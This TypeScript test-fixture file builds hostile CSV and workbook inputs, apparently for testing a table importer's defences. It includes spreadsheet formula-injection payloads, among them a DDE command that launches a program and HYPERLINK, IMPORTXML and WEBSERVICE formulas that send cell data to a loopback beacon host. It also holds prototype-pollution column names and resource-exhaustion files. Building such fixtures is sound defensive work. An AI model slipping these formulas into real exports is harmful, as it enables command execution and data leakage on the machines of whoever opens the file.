import { written, type HostileFile } from './hostileFile'
import { rawZip } from './rawZip'
import { utf8 } from './hostileFile'

/** What a spreadsheet would run. */
export const formulas = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://127.0.0.1:9/beacon?"&A1,"click")',
  '=IMPORTXML("http://127.0.0.1:9/beacon","//a")',
  '=WEBSERVICE("http://127.0.0.1:9/beacon")',
  '+1+1',
  '-2+3+cmd|x!A0',
  '@SUM(1,1)',
  '\t=1+1',
  '＝1+1',
  '＠SUM(1)',
]

const table = (
  name: string,
  trick: string,
  must: HostileFile['must'],
  text: string | (() => string),
) => written('table', name, trick, must, text)
const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`
const packed = (name: string, trick: string): HostileFile => ({
  name,
  trick,
  target: 'table',
  must: 'be refused',
  bytes: () =>
    rawZip([
      {
        name: 'xl/worksheets/sheet1.xml',
        content: utf8(
          `<worksheet><sheetData><row><c><f>WEBSERVICE("http://127.0.0.1:9/beacon")</f></c></row></sheetData></worksheet>`,
        ),
      },
      { name: 'xl/workbook.xml', content: utf8('<workbook/>') },
    ]),
})

export const tables: readonly HostileFile[] = [
  ...formulas.map((formula, i) =>
    table(
      `formula ${i}.csv`,
      `the formula ${formula.trim()}`,
      'come in',
      `Case,${quoted(formula)}\nNova,${quoted(formula)}\n${quoted(formula)},x\n`,
    ),
  ),
  packed('workbook.csv', 'a workbook with formulas that is called a table'),
  packed('workbook.xlsx', 'a workbook with formulas'),
  { ...packed('workbook.txt', 'a workbook that is called a text'), target: 'transcript' },
  table(
    'names.csv',
    'columns and cases that every object has',
    'come in',
    'Case,__proto__,constructor,toString,hasOwnProperty\n__proto__,1,2,3,4\nconstructor,1,2,3,4\ntoString,5,6,7,8\n',
  ),
  table(
    'numbers.csv',
    'numbers that are none',
    'come in',
    'Case,Staff\nA,1e999\nB,-1e999\nC,NaN\nD,Infinity\nE,0x10\nF,1\n',
  ),
  table('wide.csv', 'a million columns', 'be refused', () => `a${',a'.repeat(1_000_000)}\nb\n`),
  table(
    'wide rows.csv',
    'a row of a million fields below two columns',
    'come in',
    () => `a,b\nc${',d'.repeat(1_000_000)}\n`,
  ),
  table('long.csv', 'a million rows', 'be refused', () => 'a,b\n'.repeat(1_000_000)),
  table(
    'square.csv',
    '5,000 columns and 200,000 rows',
    'be refused',
    () => `a${',a'.repeat(5000)}\n${'b,c\n'.repeat(150_000)}`,
  ),
  table(
    'open.csv',
    'a quote that never closes',
    'come in',
    () => `Case,Staff\nNova,"${'a\n'.repeat(60_000)}`,
  ),
  table(
    'quotes.csv',
    '8 MB of quotes',
    'be refused',
    () => `Case,Staff\nNova,${'"'.repeat(8_000_000)}\n`,
  ),
  table(
    'alternating.csv',
    'quotes that open and close',
    'be refused',
    () => `Case,Staff\n${'"a"b"c",'.repeat(200_000)}\n`,
  ),
  table(
    'no delimiter.csv',
    'quoted rows without a delimiter',
    'come in',
    () => `Case\n${'"a"\n'.repeat(19_000)}`,
  ),
  table('returns.csv', 'half a million carriage returns', 'be refused', () => '\r'.repeat(500_000)),
  table(
    'field.csv',
    'a field of 10 MB',
    'come in',
    () => `Case,Note\nNova,${'a'.repeat(10_000_000)}\n`,
  ),
  table(
    'title.csv',
    'a title of 10 MB',
    'come in',
    () => `Case,${'('.repeat(10_000_000)}\nNova,1\n`,
  ),
  ...['a;=1+1', 'a;"=1+1";', 'a\n=1+1', 'a\t@SUM(1)', 'a;-2+3+cmd|x!A0'].map((text, i) =>
    table(
      `inner ${i}.csv`,
      `a formula for whoever parts ${JSON.stringify(text)} otherwise`,
      'come in',
      `Case,${quoted(text)}\nNova,${quoted(text)}\n${quoted(text)},x\n`,
    ),
  ),
  {
    ...table('wide signs.csv', 'formulas in UTF-16', 'come in', ''),
    bytes: () => Buffer.from(`\ufeffCase\t=1+1\nNova\t=1+1\n=1+1\tx\n`, 'utf16le'),
  },
  table(
    'same.csv',
    '300 columns of one name and 1,000 cases of one',
    'come in',
    () => `Case${',Same'.repeat(299)}\n${`Nova${',1'.repeat(299)}\n`.repeat(1000)}`,
  ),
  table(
    'unseen.csv',
    'names that differ by what nobody sees',
    'come in',
    'Case,Staff,Sta\u200bff,Sta\u00adff\nNova,1,2,3\nNo\u200bva,4,5,6\nNova\u2060,7,8,9\n',
  ),
  table(
    'kinds.csv',
    '20,000 cases, each of a category of its own',
    'come in',
    () =>
      `Case,Kind\n${Array.from({ length: 19_000 }, (_, i) => `C${i},${'k'.repeat(100)}${i}`).join('\n')}\n`,
  ),
  table('empty.csv', 'nothing', 'be refused', ''),
  table('header.csv', 'a header and nothing else', 'be refused', 'Case,Staff\n'),
  table('zeros.csv', 'zeros', 'be refused', '\0'.repeat(10_000)),
]
